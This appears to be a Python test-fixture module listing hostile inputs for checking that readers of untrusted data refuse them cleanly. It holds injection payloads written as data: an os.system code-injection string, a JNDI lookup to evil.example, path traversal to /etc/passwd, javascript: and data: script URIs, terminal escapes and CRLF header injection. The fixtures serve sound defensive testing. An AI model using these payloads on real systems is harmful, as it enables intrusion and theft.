"""The hostile values every reader of outside input is fed (tests/hostile/test_readers.py), and
the outcome the untrusted-input rule allows: a value within its bounds, or a refusal whose reason
is one printable line of bounded length."""

from __future__ import annotations

import json
from typing import Any

OTHER_ORIGIN = "https://evil.example/steal?token=1"  # well-formed: a reader may take it where any origin goes
# Strings an attacker would put in any field: code-looking text, path traversal (plain, encoded,
# Windows), other origins and schemes, terminal and line-breaking controls, a lone surrogate, and
# a megabyte of text.
HOSTILE_STRINGS: list[str] = [
    '"""+str(__import__("os").system("id"))+"""',
    "{{ 7*7 }}${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "%2e%2e/%2e%2e/x",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    OTHER_ORIGIN,
    "http://[::1",  # urlsplit raises on this one
    "https://\uff03evil.example@x/",  # and on this one (NFKC)
    "a\x00b",
    "\x1b]8;;https://evil.example\x07click\x1b[2J",
    "line\r\nInjected: 1",
    "\u2028\u2029\u0085",
    "\u202egnp.exe",
    "\ud800",
    "x" * 1_000_000,
]
# Values of every JSON type but the one a field wants, at their extremes.
WRONG_TYPES: list[Any] = [None, True, 0, -1, 10**30, 1.5, float("nan"), float("inf"), [], ["x"], {}, {"a": 1}]


def deep(levels: int, leaf: Any = "x") -> Any:
    """A list nested `levels` deep (built without recursion)."""
    value = leaf
    for _ in range(levels):
        value = [value]
    return value


# As deep as a message the wire's parser accepts gets (it refuses past the recursion limit).
DEEP = deep(900)
DEEP_BYTES = b"[" * 100_000 + b"]" * 100_000
HOSTILE_VALUES: list[Any] = [*HOSTILE_STRINGS, *WRONG_TYPES, DEEP]
MAX_REASON_CHARS = 1200


def one_line(reason: object) -> str:
    """The refusal's reason, checked: one printable line of bounded length."""
    text = str(reason)
    assert text, "an empty reason"
    assert text.isprintable(), f"the reason is not one printable line: {text[:300]!r}"
    assert len(text) <= MAX_REASON_CHARS, f"the reason is {len(text)} characters: {text[:300]!r}"
    return text


def label(value: Any) -> str:
    """A short test id for a hostile value."""
    try:
        text = json.dumps(value)
    except (ValueError, RecursionError):
        text = type(value).__name__
    return text[:24]
